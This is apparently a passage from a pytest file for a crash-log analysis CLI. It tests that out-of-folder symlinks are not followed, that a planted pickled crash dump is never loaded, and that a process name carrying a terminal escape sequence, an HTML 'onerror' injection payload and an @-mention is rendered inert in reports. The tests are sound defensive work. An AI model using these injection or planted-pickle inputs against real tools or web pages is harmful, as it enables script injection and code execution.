    path.write_text('Traceback (most recent call last):\n  File "/a/b.py", line 3, in f\n    return f(x)\n'
                    "  [Previous line repeated 996 more times]\n  File \"/a/b.py\", line 2, in f\n"
                    "    torch.cuda.synchronize()\nRecursionError: maximum recursion depth exceeded\n")
    run = run_cli("analyze", path, "--format", "json", seconds=30)
    document = json.loads(run.out)
    assert document["verdict"]["headline"].startswith("RecursionError")
    assert document["sources"][0]["unparsed_lines"] == 0


def test_links_out_of_the_folder_are_listed_not_followed(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.log").write_bytes(ERROR_LINE)
    bundle = tmp_path / "bundle"
    bundle.mkdir()
    (bundle / "server.log").write_bytes(b"INFO 03-14 10:00:00 [x.py:1] start\n")
    (bundle / "link.log").symlink_to(outside / "secret.log")
    run = run_cli("analyze", bundle, "--format", "json", seconds=30)
    document = json.loads(run.out)
    assert document["verdict"]["error"] is None
    assert document["inputs"]["links_not_followed"] == 1
    assert "link.log" in json.dumps(document["sources"]) + run_cli("analyze", bundle, seconds=30).out
    followed = json.loads(run_cli("analyze", bundle, "--format", "json", "--follow-links", seconds=30).out)
    assert followed["verdict"]["error"]["code"] == 700


def test_a_pickled_crash_dump_is_named_and_never_loaded(tmp_path):
    marker = tmp_path / "PWNED"
    bundle = tmp_path / "bundle"
    bundle.mkdir()
    (bundle / "crash_dump_2026-03-14_10-00-02.pkl").write_bytes(pickle.dumps(_Planted(str(marker))))
    (bundle / "server.log").write_bytes(ERROR_LINE)
    run = run_cli("analyze", bundle, seconds=30, rss_mb=200)
    assert found_the_error(run) and "pickle" in run.out and "never loaded" in run.out
    assert not marker.exists()


def test_a_process_name_taken_from_a_message_is_inert_in_every_report():
    """A name a message gives (Ray's memory monitor names the killed task) reaches the
    first failure and the causal chain: escaped there like any log text."""
    name = "Evil\x1b]8;;http://x\x07<img src=x onerror=alert`1`>@team"
    text = (f"Memory on the node (IP: 10.1.2.3, ID: 5e1f) where the task (actor ID: 0a9c, name={name}, pid=4417, "
            "memory used=30.02GB) was running was 61.20GB / 64.00GB (0.956250), which exceeds the memory usage "
            "threshold of 0.95. Ray killed this worker (ID: 77b0) because it was the most recently scheduled task\n")
    from forensics.report import Options, render
    from forensics.report.document import build
    from tests.helpers import analyze_text
    case = analyze_text(text)
    assert any("Evil" in (r.name or "") for r in case.verdict.ranks)     # the name did reach the verdict
    for fmt in ("terminal", "markdown"):
        out = io.StringIO()
        render(build(case), fmt, out, Options(width=100, color=False, redact=False, full=True))
        report = out.getvalue()
        assert ESC not in report and "\x07" not in report
        if fmt == "markdown":
            from markdown_it import MarkdownIt
            page = MarkdownIt("commonmark", {"html": True}).render(report)
            assert "<img" not in page                    # shown as text or code, never an element
            prose = re.sub(r"<code[^>]*>.*?</code>", "", page, flags=re.S)   # GitHub links no mention in code
            assert "@team" not in prose                  # broken by a zero-width space: no mention
